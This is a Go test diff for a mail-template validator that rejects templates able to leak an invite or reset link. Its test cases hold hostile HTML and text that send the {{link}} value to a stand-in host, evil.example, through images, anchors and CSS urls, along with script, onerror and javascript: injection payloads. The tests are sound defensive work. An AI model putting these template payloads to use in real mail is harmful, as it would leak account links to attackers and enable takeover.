@@ -43,6 +43,18 @@ func TestWordsThatCannotBeSentAreRefused(t *testing.T) {
 		{"HTML that shows the link and does not lead to it", "html", func(w *admitmail.Words) { w.HTML = "<p>{{link}}</p>" }},
 		{"the link in a comment", "html", func(w *admitmail.Words) { w.HTML = "<!-- " + link + " -->" }},
 		{"a link that goes elsewhere with ours", "html", func(w *admitmail.Words) { w.HTML = `<a href="https://evil.example/?{{link}}">x</a>` }},
+		{"a picture that takes the link elsewhere", "html", func(w *admitmail.Words) { w.HTML = link + `<img src="https://evil.example/?{{link}}">` }},
+		{"a second link that goes elsewhere with ours", "html", func(w *admitmail.Words) { w.HTML = link + `<a href="https://evil.example/?{{link}}">x</a>` }},
+		{"a project before the link", "html", func(w *admitmail.Words) { w.HTML = link + `<a href="{{project}}{{link}}">x</a>` }},
+		{"a style that takes the link elsewhere", "html", func(w *admitmail.Words) {
+			w.HTML = link + `<p style="background:url('https://evil.example/?{{link}}')">x</p>`
+		}},
+		{"a style sheet that takes the link elsewhere", "html", func(w *admitmail.Words) {
+			w.HTML = link + `<style>p{background:url("https://evil.example/? {{link}}")}</style>`
+		}},
+		{"shown HTML that takes the link elsewhere", "html", func(w *admitmail.Words) { w.HTML = link + `<p>https://evil.example/?{{link}}</p>` }},
+		{"a text that takes the link elsewhere", "text", func(w *admitmail.Words) { w.Text = "https://evil.example/?{{link}}" }},
+		{"a text with a project before the link", "text", func(w *admitmail.Words) { w.Text = "{{link}} {{project}}{{link}}" }},
 		{"a script", "html", func(w *admitmail.Words) { w.HTML = link + "<script>alert(1)</script>" }},
 		{"a handler", "html", func(w *admitmail.Words) { w.HTML = link + `<img src="https://x.example/a.png" OnError="alert(1)">` }},
 		{"a script as an address", "html", func(w *admitmail.Words) { w.HTML = link + `<a href=" java&#115;cript:alert(1)">x</a>` }},
@@ -76,6 +88,15 @@ func (o ownWords) MailTemplate(_ context.Context, project, template string) (sto
 		return store.MailTemplate{}, errors.New("broken")
 	}
 	return store.MailTemplate{Project: project, Template: template, Subject: w.Subject, Text: w.Text, HTML: w.HTML}, nil
+}
+
+func TestAdmitsWordsMayBeAProjectsOwn(t *testing.T) {
+	l, _ := letters(t, "Admit")
+	for _, template := range []admitmail.Template{admitmail.InviteNew, admitmail.InviteExisting, admitmail.Reset} {
+		words, err := l.Default(template)
+		require.NoError(t, err)
+		assert.NoError(t, words.Check(), template)
+	}
 }
 
 func TestAProjectsOwnWordsAreFilledWithValuesAlone(t *testing.T) {
